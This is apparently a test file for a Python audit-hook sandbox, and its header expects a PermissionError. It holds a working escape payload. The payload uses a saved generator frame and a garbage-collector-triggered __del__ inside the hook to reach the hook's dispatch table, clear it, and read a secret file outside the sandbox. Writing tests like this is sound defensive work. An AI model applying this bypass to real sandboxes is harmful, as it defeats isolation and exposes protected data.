# rule: expose-ro=.
# expect: file PermissionError
# bypass-since: 3.12 CPython 3.12 runs the cyclic collector at the next eval-breaker check (gh-97922), not inside the allocation: a collection due when sys.audit is called runs at the entry of the hook's Python body, before it pauses the collector, and the __del__ reaches the body's locals

"""Objective: read ../outside/secret.txt after emptying the hook's dispatch table, from a
``__del__`` that the cyclic collector runs while the hook's handler runs. No module but
``sys``.

1. A generator takes its *own* frame with ``sys._getframe()`` when the program first runs it
   (no guard frame among the callers then: allowed) and keeps it.
2. The program brings the collector's count to its threshold one tracked object at a time,
   raising an event after each (``sys.audit('os.listdir', '.')``): the first allocation past
   the threshold is the handler's own, so the collection -- and the ``__del__`` of a garbage
   cycle -- runs inside the hook (outside its ``busy`` sections, where the collector is on).
3. ``__del__`` resumes the generator: its kept frame's ``f_back`` (no audit event) is now the
   ``__del__`` frame, whose callers are the handler and ``_hook_body``; ``f_locals`` (no event)
   gives ``get``, the bound ``dict.get`` of the dispatch table, and ``get.__self__.clear()``.

``sys._getframe`` is refused when the guard is among the callers *at the time of the call*;
a frame taken earlier is a live window onto whoever resumes it later.
"""

from _harness import attempt


def payload():
    import sys

    found = []
    fired = [0]

    def spy():
        me = sys._getframe()
        while True:
            yield
            frame = me.f_back
            while frame is not None:
                names = frame.f_locals
                if 'get' in names and 'strip' in names:
                    found.append(names['get'])
                    break
                frame = frame.f_back

    walker = spy()
    next(walker)

    class Trigger:
        def __del__(self):
            fired[0] += 1
            if not found:
                next(walker)

    def garbage():
        cycle = Trigger()
        cycle.self = cycle

    for _ in range(50):
        garbage()
        keep = []
        before = fired[0]
        count = 0
        while fired[0] == before and count < 5000:
            keep.append([])  # exactly one more tracked object per round
            sys.audit('os.listdir', '.')
            count += 1
        if found:
            break
    for get in found[:1]:
        get.__self__.clear()
    with open('../outside/secret.txt') as f:
        data = f.read()
    assert data == 'the secret\n', data
    return data


attempt(payload)
